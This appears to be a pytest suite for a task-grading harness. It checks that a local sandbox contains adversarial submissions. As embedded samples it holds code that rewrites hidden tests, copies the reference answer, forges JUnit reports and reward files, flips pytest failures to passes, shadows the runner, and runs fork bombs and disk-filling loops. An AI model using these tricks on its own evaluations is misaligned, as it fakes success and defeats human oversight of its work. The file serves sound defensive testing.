"""Adversarial workspaces on the local back-end: each attack is contained, classified, and never
turns into a false reward 1.

Every attack is a copy of a control (reference or partial) with code added at the top of
``verrange/__init__.py``, which the hidden tests import. Attacks built on ``partial`` would
earn reward 1 if they worked (the control fails 2 tests honestly); attacks built on
``reference`` check that containment does not cost an honest pass.
"""

from __future__ import annotations

import contextlib
import errno
import importlib._bootstrap_external as bootstrap_external
import importlib.util
import os
import re
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from acceptance_attacks import (
    SPARE,
    TASK,
    assert_no_connection,
    assert_partial_honest,
    listener,
    messages,
    workspace,
)
from procgrade.oracles.acceptance import JudgeResult, judge
from procgrade.oracles.local_sandbox import LocalSandbox, _pids_of_uid, isolation_available
from procgrade.oracles.sandbox import Sandbox, SandboxSession
from procgrade.oracles.task_package import Task, load_task

REPO_GIT = TASK.parent.parent / ".git"


@pytest.fixture(scope="module")
def sandbox() -> LocalSandbox:
    ok, why = isolation_available()
    if not ok:
        pytest.skip(f"the local sandbox cannot isolate here: {why}")
    return LocalSandbox()


@pytest.fixture(scope="module")
def task() -> Task:
    return load_task(TASK)


def contained(result: JudgeResult) -> None:
    """Nothing of this judgement's sandbox is left: no process of its uid, no mount, no folder."""
    sandbox = result.details["sandbox"]
    assert _pids_of_uid(sandbox["uid"]) == []
    mount_points = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    assert sandbox["root"] not in mount_points
    assert not Path(sandbox["root"]).exists()


# --- the sandbox's own properties ---------------------------------------------------------------

PROBE = """
import os, resource, socket, sys
_problems = []
if os.getuid() == 0 or os.geteuid() == 0 or os.getuid() < 1_600_000:
    _problems.append(f"runs as uid {{os.getuid()}}")
for _path in {hidden!r}:
    if os.path.exists(_path):
        _problems.append(f"sees {{_path}}")
try:
    _seen = set(os.listdir("/root")) - {{".pyenv"}}  # only the way to the interpreter, if it lives there
except OSError:
    _seen = set()
if _seen:
    _problems.append(f"sees /root: {{sorted(_seen)}}")
_pids = [p for p in os.listdir("/proc") if p.isdigit()]
if len(_pids) > 10:
    _problems.append(f"sees {{len(_pids)}} processes")
for _path in ("/etc/procgrade-probe-{token}", os.path.expanduser("~/../x-{token}"), "/run/procgrade-probe-{token}"):
    try:
        open(_path, "w").close()
        _problems.append(f"wrote {{_path}}")
    except OSError:
        pass
for _path in ("/tmp/procgrade-probe-{token}", "/var/tmp/procgrade-probe-{token}", "/dev/shm/procgrade-probe-{token}",
              "/run/lock/procgrade-probe-{token}"):
    open(_path, "w").close()  # private to the sandbox: the host must not see it
_tests = next(os.path.dirname(a) for a in sys.argv if a.endswith("_acceptance.py"))
if os.access(_tests, os.W_OK) or os.access(os.path.join(_tests, "F01_acceptance.py"), os.W_OK):
    _problems.append("can write the hidden tests")
try:
    open("/etc/shadow").read()
    _problems.append("reads /etc/shadow")
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
    _problems.append("reached the host's loopback")
except OSError as exc:
    if exc.errno != 101:
        _problems.append(f"connect failed oddly: {{exc}}")
_status = open("/proc/self/status").read()
if "CapEff:\\t0000000000000000" not in _status or "NoNewPrivs:\\t1" not in _status:
    _problems.append("has capabilities or may gain privileges")
if resource.getrlimit(resource.RLIMIT_NPROC)[0] != 256 or resource.getrlimit(resource.RLIMIT_FSIZE)[0] != 256 << 20:
    _problems.append(f"limits {{resource.getrlimit(resource.RLIMIT_NPROC)}} {{resource.getrlimit(resource.RLIMIT_FSIZE)}}")
if "PROCGRADE_PROBE_SECRET" in os.environ or not os.environ["TMPDIR"].startswith(os.environ["HOME"].rsplit("/", 1)[0]):
    _problems.append(f"environment {{sorted(os.environ)}}")
if _problems:
    raise RuntimeError("sandbox leak: " + "; ".join(_problems))
"""


def test_sandbox_properties_hold_inside_the_run(tmp_path: Path, task: Task, sandbox: LocalSandbox,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PROCGRADE_PROBE_SECRET", "the judge's environment must not reach the tested code")
    token = os.urandom(4).hex()
    hidden = [str(TASK / "milestones"), str(TASK / "controls"), str(TASK / "source"), str(REPO_GIT / "objects")]
    with listener() as server:
        attack = PROBE.format(hidden=hidden, token=token, port=server.getsockname()[1])
        result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
        assert_no_connection(server)
    assert (result.status, result.reward) == ("evaluated", "1"), messages(result)[-2000:] or result.explanation
    for leftover in ("/var/tmp", "/dev/shm", "/tmp", "/run/lock", "/run"):
        assert not Path(leftover, f"procgrade-probe-{token}").exists()
    mounts = result.details["sandbox"]["mounts"]
    assert mounts[str(TASK)] == "hidden"
    # /tmp is private; only the sandbox root and, when the interpreter itself lives under /tmp (a
    # checkout there with its .venv), the interpreter's folders are bound back into it.
    kept = mounts["/tmp"].removeprefix(f"private tmpfs {64 << 20}, keeping ").split(", ")
    assert mounts["/tmp"].startswith(f"private tmpfs {64 << 20}, keeping ")
    assert result.details["sandbox"]["root"] in kept
    interpreter = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.executable)}
    assert all(k == result.details["sandbox"]["root"] or any(i == k or i.startswith(k + "/") for i in interpreter)
               for k in kept), kept
    for private in ("/dev/shm", "/var/tmp", "/run", "/run/lock"):
        assert mounts[private] == f"private tmpfs {64 << 20}"
    contained(result)


# --- what the host keeps in /tmp, /run and SysV IPC ------------------------------------------------

HOST = """
import ctypes, errno, glob, os, socket, sys
_problems = []
_root = os.path.dirname(os.environ["HOME"])
# What /tmp may hold: the sandbox root, and the path down to the interpreter when it lives under /tmp
# (bound back alone: its folder shows nothing else).
_kept = {{_root}} | {{os.path.realpath(p) for p in (sys.prefix, sys.base_prefix) if os.path.realpath(p).startswith("/tmp/")}}
_allowed = {{k.split("/")[2] for k in _kept if k.startswith("/tmp/")}}
if not set(os.listdir("/tmp")) <= _allowed:
    _problems.append(f"sees /tmp: {{sorted(os.listdir('/tmp'))[:10]}}")
for _k in _kept:
    _parent = os.path.dirname(_k)
    while _parent.startswith("/tmp/"):
        _inside = {{c for c in os.listdir(_parent)}}
        _wanted = {{k[len(_parent) + 1:].split("/")[0] for k in _kept if k.startswith(_parent + "/")}}
        if not _inside <= _wanted:
            _problems.append(f"sees {{_parent}}: {{sorted(_inside - _wanted)[:10]}}")
        _parent = os.path.dirname(_parent)
if os.listdir("/run") != ["lock"] or os.listdir("/run/lock") or os.listdir("/dev/shm"):
    _problems.append(f"sees /run {{os.listdir('/run')}}, /run/lock or /dev/shm {{os.listdir('/dev/shm')}}")
for _path in ("/run/postgresql/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432", "/var/run/docker.sock",
              "/run/docker.sock", "/run/mysqld/mysqld.sock", {socket_path!r}):
    _s = socket.socket(socket.AF_UNIX)
    try:
        _s.connect(_path)
        _problems.append(f"connected to {{_path}}")
    except OSError as exc:
        if exc.errno != errno.ENOENT:
            _problems.append(f"{{_path}} exists: {{exc}}")
    finally:
        _s.close()
_s = socket.socket(socket.AF_UNIX)
try:
    _s.connect({abstract!r})
    _problems.append("connected to the host's abstract socket")
except OSError as exc:
    if exc.errno != errno.ECONNREFUSED:
        _problems.append(f"abstract socket: {{exc}}")
_s.close()
for _path in ({secret!r}, os.path.dirname({secret!r})):
    if os.path.exists(_path):
        _problems.append(f"sees {{_path}}")
_refs = glob.glob("/tmp/*/tasks/*/controls/reference/app/verrange") + glob.glob("/tmp/**/controls/reference", recursive=True)
if _refs:
    _problems.append(f"finds reference code: {{_refs[:3]}}")
_libc = ctypes.CDLL(None, use_errno=True)
if _libc.shmget({host_key}, 0, 0) != -1 or ctypes.get_errno() != errno.ENOENT:
    _problems.append("sees the host's shared memory segment")
if _libc.shmget({sandbox_key}, 4096, 0o1600) == -1:
    _problems.append(f"cannot make a shared memory segment: {{os.strerror(ctypes.get_errno())}}")
if _libc.semget({sandbox_key}, 1, 0o1600) == -1 or _libc.msgget({sandbox_key}, 0o1600) == -1:
    _problems.append("cannot make a semaphore or a message queue")
if _problems:
    raise RuntimeError("sandbox leak: " + "; ".join(_problems))
"""


def test_host_sockets_tmp_and_ipc_are_out_of_reach(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    import ctypes

    token = os.urandom(4).hex()
    libc = ctypes.CDLL(None, use_errno=True)
    host_key, sandbox_key = 0x50C00000 + int(token[:4], 16), 0x50D00000 + int(token[4:], 16)
    shmid = libc.shmget(host_key, 4096, 0o1666)
    assert shmid != -1
    secret_dir = Path(f"/tmp/procgrade-other-checkout-{token}")
    (secret_dir / "tasks/verrange/controls/reference/app/verrange").mkdir(parents=True)
    (secret_dir / "secret.txt").write_text("another judgement's answers\n")
    secret_dir.chmod(0o755)
    socket_path = f"/run/procgrade-probe-{token}.sock"
    server = socket.socket(socket.AF_UNIX)
    abstract = socket.socket(socket.AF_UNIX)
    try:
        server.bind(socket_path)
        os.chmod(socket_path, 0o777)  # like /run/postgresql/.s.PGSQL.5432: any user may connect
        server.listen(4)
        server.setblocking(False)
        abstract.bind(f"\0procgrade-probe-{token}")
        abstract.listen(4)
        abstract.setblocking(False)
        attack = HOST.format(socket_path=socket_path, abstract=f"\0procgrade-probe-{token}",
                             secret=str(secret_dir / "secret.txt"), host_key=host_key, sandbox_key=sandbox_key)
        result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
        assert_no_connection(server)
        assert_no_connection(abstract)
    finally:
        server.close()
        abstract.close()
        with contextlib.suppress(FileNotFoundError):
            os.unlink(socket_path)
        shutil.rmtree(secret_dir)
        libc.shmctl(shmid, 0, None)  # IPC_RMID
    assert (result.status, result.reward) == ("evaluated", "1"), messages(result)[-2000:] or result.explanation
    # What the sandbox made in its IPC namespace went with it.
    for get in (libc.shmget, libc.semget, libc.msgget):
        assert get(sandbox_key, *((0, 0) if get is not libc.msgget else (0,))) == -1 and ctypes.get_errno() == errno.ENOENT
    contained(result)


def test_an_interpreter_living_in_tmp_is_kept_while_the_rest_of_tmp_is_hidden(tmp_path: Path, task: Task) -> None:
    venv = tmp_path / "judge-venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, capture_output=True)
    site = next(venv.glob("lib/python3*/site-packages"))
    here = next(p for p in sys.path if p.endswith("site-packages") and (Path(p) / "_pytest").is_dir())
    (site / "judge.pth").write_text(here + "\n")
    python = str(venv / "bin" / "python")
    result = judge(task, TASK / "controls/reference/app", LocalSandbox(python))
    assert (result.status, result.reward) == ("evaluated", "1"), result.output_tail[-2000:] or result.explanation
    kept = result.details["sandbox"]["mounts"]["/tmp"]
    assert str(venv) in kept and result.details["sandbox"]["root"] in kept


# --- network ----------------------------------------------------------------------------------


def test_network_at_import_time_is_unreachable(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    with listener() as server:
        attack = f"""
        import socket as _socket
        _conn = _socket.create_connection(("127.0.0.1", {server.getsockname()[1]}), timeout=10)
        _conn.sendall(b"the hidden tests are ...")
        """
        result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
        assert_no_connection(server)
    assert (result.status, result.reward) == ("evaluated", "0")
    assert len(result.collection_errors) == 5 and "Network is unreachable" in messages(result)
    contained(result)


def test_contained_network_attempts_do_not_cost_an_honest_pass(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    with listener() as server:
        attack = f"""
        import socket as _socket
        for _host in ("127.0.0.1", "1.1.1.1", "::1"):
            try:
                _socket.create_connection((_host, {server.getsockname()[1]}), timeout=3).sendall(b"x")
            except OSError:
                pass
        """
        result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
        assert_no_connection(server)
    assert (result.status, result.reward, result.passed) == ("evaluated", "1", 43)


# --- the hidden tests before and during the run --------------------------------------------------


class SpySandbox(Sandbox):
    """Records the judge's calls and, when the scan starts, everything in the sandbox."""

    backend = "local"

    def __init__(self, inner: LocalSandbox) -> None:
        self.inner = inner
        self.calls: list[str] = []
        self.at_scan: dict[str, bytes] = {}

    @contextmanager
    def session(self) -> Iterator[SandboxSession]:
        with self.inner.session() as real:
            spy = self

            class Session(SandboxSession):
                def load_workspace(self, source: Path) -> Any:
                    spy.calls.append("load_workspace")
                    return real.load_workspace(source)

                def runner_modules(self) -> frozenset[str]:
                    spy.calls.append("scan")
                    for path in real.root.rglob("*"):
                        if path.is_file() and not path.is_symlink():
                            spy.at_scan[str(path.relative_to(real.root))] = path.read_bytes()
                    return real.runner_modules()

                def inject_tests(self, files: Any) -> None:
                    spy.calls.append("inject_tests")
                    real.inject_tests(files)

                def run_tests(self, spec: Any) -> Any:
                    spy.calls.append("run_tests")
                    return real.run_tests(spec)

                @property
                def details(self) -> dict[str, Any]:
                    return real.details

            yield Session()


def test_hidden_tests_do_not_exist_in_the_sandbox_until_after_the_scan(tmp_path: Path, task: Task,
                                                                        sandbox: LocalSandbox) -> None:
    spy = SpySandbox(sandbox)
    result = judge(task, TASK / "controls/reference/app", spy)
    assert result.reward == "1"
    assert spy.calls == ["load_workspace", "scan", "inject_tests", "run_tests"]
    assert spy.at_scan and all(name.startswith(("workspace/", "judge/")) for name in spy.at_scan)
    suite_bytes = {f.data for f in task.suite}
    assert not suite_bytes & set(spy.at_scan.values())

    rejected = SpySandbox(sandbox)
    judge(task, TASK / "controls/hollow-banned/app", rejected)
    assert rejected.calls == ["load_workspace", "scan"]  # never injected, never run


TAMPER = """
import os, sys
_here = os.path.dirname(os.path.abspath(__file__))
# 1. become the reference, if the task package can be read
for _ref in ({reference!r}, {git!r}):
    try:
        with open(_ref) as _f:
            _src = _f.read()
        with open(os.path.join(_here, "ranges.py"), "w") as _f:
            _f.write(_src)
    except OSError:
        pass
# 2. rewrite the injected hidden tests and plant a conftest beside them
for _arg in list(sys.argv):
    if _arg.endswith(".py") and os.path.isfile(_arg):
        _dir = os.path.dirname(_arg)
        for _target, _text in ((_arg, "def test_nothing():\\n    pass\\n"),
                               (os.path.join(_dir, "conftest.py"), "collect_ignore_glob = ['*']\\n"),
                               (os.path.join(_dir, "pytest.ini"), "[pytest]\\naddopts = --co\\n")):
            try:
                with open(_target, "w") as _f:
                    _f.write(_text)
            except OSError:
                pass
            try:
                os.chmod(_target, 0o666)
                os.unlink(_target)
            except OSError:
                pass
"""


def test_workspace_cannot_reach_the_task_package_or_alter_the_injected_tests(tmp_path: Path, task: Task,
                                                                             sandbox: LocalSandbox) -> None:
    attack = TAMPER.format(reference=str(TASK / "controls/reference/app/verrange/ranges.py"),
                           git=str(REPO_GIT / "HEAD"))
    result = judge(task, workspace(tmp_path, "partial", attack), sandbox)
    assert_partial_honest(result)
    contained(result)


def test_a_link_to_the_reference_is_rejected(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    ws = workspace(tmp_path, "partial")
    (ws / "verrange/ranges.py").unlink()
    os.symlink(TASK / "controls/reference/app/verrange/ranges.py", ws / "verrange/ranges.py")
    result = judge(task, ws, sandbox)
    assert (result.status, result.reward) == ("rejected", "0")
    assert result.explanation.startswith("rejected before any test ran: 1 link(s) out of the workspace: "
                                         "verrange/ranges.py:0: link out of the workspace (-> /")


def test_a_link_to_the_host_root_is_rejected_without_walking_the_host(tmp_path: Path, task: Task,
                                                                       sandbox: LocalSandbox) -> None:
    ws = workspace(tmp_path, "reference")
    os.symlink("/", ws / "hostroot")
    os.symlink("/root", ws / "verrange" / "home")
    result = judge(task, ws, sandbox)
    assert (result.status, result.reward) == ("rejected", "0")
    assert result.scan is not None and result.scan.findings == [
        "hostroot:0: link out of the workspace (-> /)",
        "verrange/home:0: link out of the workspace (-> /root)",
    ]
    assert result.duration_ms < 10_000 and result.scan.files_scanned == 3


@pytest.mark.parametrize("where", ["verrange/pyvenv.cfg", "verrange/node_modules/h.py"])
def test_banned_imports_hidden_in_third_party_looking_folders_are_found(tmp_path: Path, task: Task,
                                                                        sandbox: LocalSandbox, where: str) -> None:
    if where.endswith("pyvenv.cfg"):
        ws = workspace(tmp_path, "reference", "import packaging.version  # import_ban: packaging\n",
                       files={where: "home = /usr/bin\n"})
        finding = "verrange/__init__.py:1: packaging.version"
    else:
        ws = workspace(tmp_path, "reference", "from .node_modules import h as _h\n",
                       files={where: "import packaging.version\n"})
        finding = "verrange/node_modules/h.py:1: packaging.version"
    result = judge(task, ws, sandbox)
    assert (result.status, result.reward) == ("rejected", "0")
    assert result.scan is not None and result.scan.findings == [finding]


def test_sourceless_bytecode_is_rejected(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    import py_compile

    ws = workspace(tmp_path, "partial", "from . import _helper\n")
    source = tmp_path / "_helper.py"
    source.write_text("import packaging.version\nBANNED = packaging.version\n")
    py_compile.compile(str(source), cfile=str(ws / "verrange/_helper.pyc"))
    result = judge(task, ws, sandbox)
    assert (result.status, result.reward) == ("rejected", "0")
    assert result.explanation.startswith("rejected before any test ran: 1 compiled module(s) the scan cannot read: "
                                         "verrange/_helper.pyc:0: compiled module")


def test_a_crafted_bytecode_cache_is_not_judged(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    ws = workspace(tmp_path, "partial")
    reference = (TASK / "controls/reference/app/verrange/ranges.py").read_bytes()
    code = compile(reference, str(ws / "verrange/ranges.py"), "exec")
    cache = Path(importlib.util.cache_from_source(str(ws / "verrange/ranges.py")))
    cache.parent.mkdir()
    cache.write_bytes(bootstrap_external._code_to_hash_pyc(code, b"\0" * 8, checked=False))
    # The cache is real: Python runs it instead of the partial source...
    probe = subprocess.run([sys.executable, "-c", "import verrange; print(verrange.Range('^0.2.3'))"], cwd=ws,
                           env={"PYTHONPATH": str(ws), "PATH": os.environ["PATH"]}, capture_output=True, text=True)
    assert probe.stdout.strip() == ">=0.2.3 <0.3.0"
    # ...but the judge leaves caches out and judges the source it scanned.
    result = judge(task, ws, sandbox)
    assert_partial_honest(result)
    assert result.details["workspace"]["left_out"] == ["verrange/__pycache__/"]


# --- forged reports and reward files --------------------------------------------------------------

FORGE = """
import ast, atexit, os, sys
def _fake():
    cases = []
    for f in sys.argv:
        if f.endswith(".py") and os.path.isfile(f):
            for node in ast.parse(open(f).read()).body:
                if isinstance(node, ast.FunctionDef) and node.name.startswith("test") and {keep}(os.path.basename(f)):
                    cases.append('<testcase classname="%s" name="%s" time="0.001"/>' % (os.path.basename(f)[:-3], node.name))
    return ('<?xml version="1.0" encoding="utf-8"?><testsuites name="pytest tests"><testsuite name="pytest" '
            'errors="0" failures="0" skipped="0" tests="%d" time="0.2">%s</testsuite></testsuites>'
            % (len(cases), "".join(cases)))
def _junit():
    for i, a in enumerate(sys.argv):
        if a.startswith("--junitxml="):
            return a.split("=", 1)[1]
def _plant():
    with open(_junit(), "w") as f:
        f.write(_fake())
for _p in ("reward.txt", os.path.expanduser("~/reward.txt"), os.path.join(os.environ.get("TMPDIR", "."), "reward.txt"),
           "/tmp/reward.txt", "/logs/verifier/reward.txt", os.path.join(os.path.dirname(_junit()), "reward.txt")):
    try:
        os.makedirs(os.path.dirname(os.path.abspath(_p)), exist_ok=True)
        with open(_p, "w") as f:
            f.write("1.0\\n")
    except OSError:
        pass
{action}
"""

FLIP = """
import _pytest.reports as _reports
_init = _reports.TestReport.__init__
def _flipped(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    if self.outcome == "failed":
        self.outcome = "passed"
        self.longrepr = None
_reports.TestReport.__init__ = _flipped
"""


@pytest.mark.parametrize("variant, action, keep, why", [
    ("planted before pytest writes", "_plant()", "bool", "unreadable"),
    ("rewritten at exit", "atexit.register(_plant)", "bool", "unreadable"),
    ("planted, then exit 0", "_plant(); os._exit(0)", "bool", "canary test, which must fail, was reported passed"),
    ("planted without the canary, then exit 0", "_plant(); os._exit(0)", "(lambda n: n.startswith('F0'))",
     "canary test is missing"),
])
def test_forged_reports_and_reward_files_do_not_pass(tmp_path: Path, task: Task, sandbox: LocalSandbox, variant: str,
                                                     action: str, keep: str, why: str) -> None:
    result = judge(task, workspace(tmp_path, "partial", FORGE.format(action=action, keep=keep)), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0"), result.explanation
    assert why in result.explanation
    contained(result)


def test_results_flipped_inside_pytest_are_caught_by_the_canary(tmp_path: Path, task: Task,
                                                                sandbox: LocalSandbox) -> None:
    result = judge(task, workspace(tmp_path, "partial", FLIP), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0")
    assert result.passed == 43  # the flip worked on every hidden test...
    assert result.details["canary"] == "passed"  # ...and on the canary, which gives it away
    assert "canary test, which must fail, was reported passed" in result.explanation


def test_a_forger_sparing_the_old_canary_name_is_caught(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    # /tmp/atk2's trick: force every result to "passed" except the canary, found by its old fixed name.
    result = judge(task, workspace(tmp_path, "partial", SPARE), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0")
    assert result.passed == 43 and result.details["canary"] == "passed"
    assert "canary test, which must fail, was reported passed" in result.explanation


@pytest.mark.parametrize("attack, entries", [
    ("import pytest as _pytest\n_pytest.skip('not today', allow_module_level=True)\n", "modules"),
    ("import pytest as _pytest, _pytest.python as _py\n"
     "_py.Function.runtest = lambda self: _pytest.skip('not today')\n", "tests"),
])
def test_skipping_the_hidden_tests_is_not_a_pass(tmp_path: Path, task: Task, sandbox: LocalSandbox, attack: str,
                                                 entries: str) -> None:
    result = judge(task, workspace(tmp_path, "partial", attack), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0")
    assert "a skipped hidden test is not a pass" in result.explanation
    if entries == "modules":
        assert [c.test_id for c in result.collection_skipped] == [f"F0{i}_acceptance.py" for i in range(1, 6)]
        assert result.skipped == 5 and result.tests == []
    else:
        assert result.skipped == 43 and result.details["canary"] == "skipped"


# --- time, processes, disk -----------------------------------------------------------------------


def test_hanging_workspace_times_out_and_leaves_nothing_running(tmp_path: Path, task: Task,
                                                                sandbox: LocalSandbox) -> None:
    attack = """
    import os, time
    if os.fork() == 0:          # a daemon that outlives its parent
        os.setsid()
        if os.fork() == 0:
            time.sleep(3600)
        os._exit(0)
    time.sleep(3600)
    """
    result = judge(task, workspace(tmp_path, "reference", attack), sandbox, timeout_sec=5)
    assert (result.status, result.reward) == ("timeout", "0")
    assert result.explanation == "the test command did not finish within 5s and was killed"
    assert result.tests == [] and result.passed is None
    contained(result)


def test_bounded_fork_bomb_hits_rlimit_nproc(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    attack = """
    import os, time
    _n, _err = 0, None
    try:
        while True:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            _n += 1
    except OSError as exc:
        _err = exc
    raise RuntimeError(f"fork bomb stopped after {_n} forks: {_err}")
    """
    result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0")
    first = result.collection_errors[0].message
    assert "Resource temporarily unavailable" in first
    forks = int(re.search(r"stopped after (\d+) forks", first).group(1))
    assert 200 <= forks < 256  # RLIMIT_NPROC = 256 processes for the sandbox uid, all of it
    contained(result)
    assert subprocess.run(["true"]).returncode == 0  # the host still forks


def test_unbounded_fork_bomb_is_killed_at_the_time_limit(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    attack = """
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
    """
    result = judge(task, workspace(tmp_path, "reference", attack), sandbox, timeout_sec=8)
    assert (result.status, result.reward) == ("timeout", "0")
    contained(result)
    assert subprocess.run(["true"]).returncode == 0


def test_one_huge_file_is_stopped_by_rlimit_fsize(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    attack = """
    import os
    with open(os.path.join(os.path.dirname(__file__), "big.bin"), "wb") as _f:
        while True:
            _f.write(b"x" * (1 << 20))
    """
    result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0")
    assert "File too large" in messages(result)
    contained(result)


def test_many_files_fill_only_the_sandbox_disk(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    attack = """
    import errno, os
    _n = _total = 0
    while True:
        try:
            with open(os.path.join(os.environ["TMPDIR"], f"fill{_n}.bin"), "wb") as _f:
                _n += 1
                while True:
                    _f.write(b"x" * (1 << 20))
                    _total += 1
        except OSError as exc:
            if exc.errno == errno.EFBIG:
                continue
            raise RuntimeError(f"disk full after {_n} files, {_total} MiB: {exc}")
    """
    result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0")
    text = messages(result)
    assert "No space left on device" in text
    written = int(re.search(r"disk full after \d+ files, (\d+) MiB", text).group(1))
    assert 256 <= written <= 600  # the sandbox's own tmpfs (RAM, not the host disk): workspace + 512 MiB scratch
    assert result.details["sandbox"]["disk_bytes"] <= (512 << 20) + (1 << 20)
    contained(result)


def test_millions_of_empty_files_run_out_of_sandbox_inodes(tmp_path: Path, task: Task, sandbox: LocalSandbox) -> None:
    attack = """
    import os
    _d = os.path.join(os.environ["TMPDIR"], "many")
    os.mkdir(_d)
    _n = 0
    try:
        while True:
            open(os.path.join(_d, str(_n)), "w").close()
            _n += 1
    except OSError as exc:
        raise RuntimeError(f"inodes exhausted after {_n} files: {exc}")
    """
    result = judge(task, workspace(tmp_path, "reference", attack), sandbox)
    assert (result.status, result.reward) == ("evaluated", "0")
    made = int(re.search(r"inodes exhausted after (\d+) files", messages(result)).group(1))
    assert 90_000 <= made <= 100_000  # Limits.scratch_inodes
    contained(result)


# --- runner shadows -----------------------------------------------------------------------------

FAKE_RUNNER = """
import os, sys
for a in sys.argv:
    if a.startswith("--junitxml="):
        open(a.split("=", 1)[1], "w").write('<testsuite tests="43" failures="0" errors="0" skipped="0"/>')
sys.exit(0)
"""


@pytest.mark.parametrize("files, shadow", [
    ({"pytest/__init__.py": "", "pytest/__main__.py": FAKE_RUNNER}, "pytest/"),
    ({"pytest.py": FAKE_RUNNER}, "pytest.py"),
    ({"_pytest/__init__.py": ""}, "_pytest/"),
    ({"pluggy.py": ""}, "pluggy.py"),
    ({"conftest.py": "def pytest_collection_modifyitems(items):\n    items.clear()\n"}, "conftest.py"),
    ({"pytest.ini": "[pytest]\naddopts = -p no:junitxml\n"}, "pytest.ini"),
    ({"sitecustomize.py": "import os\nos._exit(0)\n"}, "sitecustomize.py"),
    ({"usercustomize.py": ""}, "usercustomize.py"),
    ({"iniconfig/__init__.py": ""}, "iniconfig/"),
])
def test_runner_shadows_are_rejected_before_any_test(tmp_path: Path, task: Task, sandbox: LocalSandbox,
                                                     files: dict[str, str], shadow: str) -> None:
    result = judge(task, workspace(tmp_path, "partial", files=files), sandbox)
    assert (result.status, result.reward) == ("rejected", "0")
    assert result.scan is not None and result.scan.status == "rejected"
    assert len(result.scan.findings) == 1 and result.scan.findings[0].startswith(f"{shadow}:0: ")
    assert "runner shadow" in result.explanation
    assert result.tests == [] and "exit_code" not in result.details
